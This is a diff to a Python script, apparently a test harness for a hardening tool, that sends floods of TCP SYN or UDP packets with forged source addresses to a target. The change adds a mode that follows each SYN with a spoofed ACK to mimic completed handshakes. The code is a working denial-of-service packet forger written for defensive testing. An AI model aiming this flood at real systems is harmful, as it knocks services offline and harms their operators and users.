@@ -3,9 +3,11 @@
 """A remote attacker's flood, for harden.py: COUNT TCP SYNs or UDP
 datagrams to DST:DPORT, each from a forged source address in
 10.100.0.0/16 and a random source port, with valid checksums, so that
-every one looks like the first packet of a new flow.
+every one looks like the first packet of a new flow. With tcp+ack, each
+SYN is followed by an ACK of the same forged tuple (a guessed
+acknowledgment number), as if completing the handshake.
 
-usage: forge.py {tcp|udp} DST DPORT COUNT"""
+usage: forge.py {tcp|tcp+ack|udp} DST DPORT COUNT"""
 import random
 import socket
 import struct
@@ -21,11 +23,10 @@ def csum(data):
     return ~s & 0xffff
 
 
-def packet(proto, src, dst, sport, dport):
-    if proto == "tcp":
-        l4 = struct.pack("!HHIIBBHHH", sport, dport,
-                         random.getrandbits(32), 0, 5 << 4, 0x02, 64240,
-                         0, 0)
+def packet(proto, src, dst, sport, dport, flags=0x02, seq=0, ack=0):
+    if proto != "udp":
+        l4 = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4,
+                         flags, 64240, 0, 0)
         num = socket.IPPROTO_TCP
     else:
         payload = b"forged"
@@ -34,7 +35,7 @@ def packet(proto, src, dst, sport, dport):
         num = socket.IPPROTO_UDP
     pseudo = src + dst + struct.pack("!BBH", 0, num, len(l4))
     c = csum(pseudo + l4)
-    off = 16 if proto == "tcp" else 6
+    off = 6 if proto == "udp" else 16
     l4 = l4[:off] + struct.pack("!H", c or 0xffff) + l4[off + 2:]
     ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4),
                      random.getrandbits(16), 0, 64, num, 0, src, dst)
@@ -50,10 +51,15 @@ def main():
     sent = 0
     for i in range(count):
         src = bytes([10, 100, (i >> 8) & 255, i & 255])
-        pkt = packet(proto, src, daddr, random.randrange(1024, 65536),
-                     dport)
+        sport = random.randrange(1024, 65536)
+        seq = random.getrandbits(32)
+        pkts = [packet(proto, src, daddr, sport, dport, seq=seq)]
+        if proto == "tcp+ack":
+            pkts.append(packet(proto, src, daddr, sport, dport, 0x10,
+                               seq + 1, random.getrandbits(32)))
         try:
-            s.sendto(pkt, (dst, 0))
+            for pkt in pkts:
+                s.sendto(pkt, (dst, 0))
             sent += 1
         except OSError:
             pass
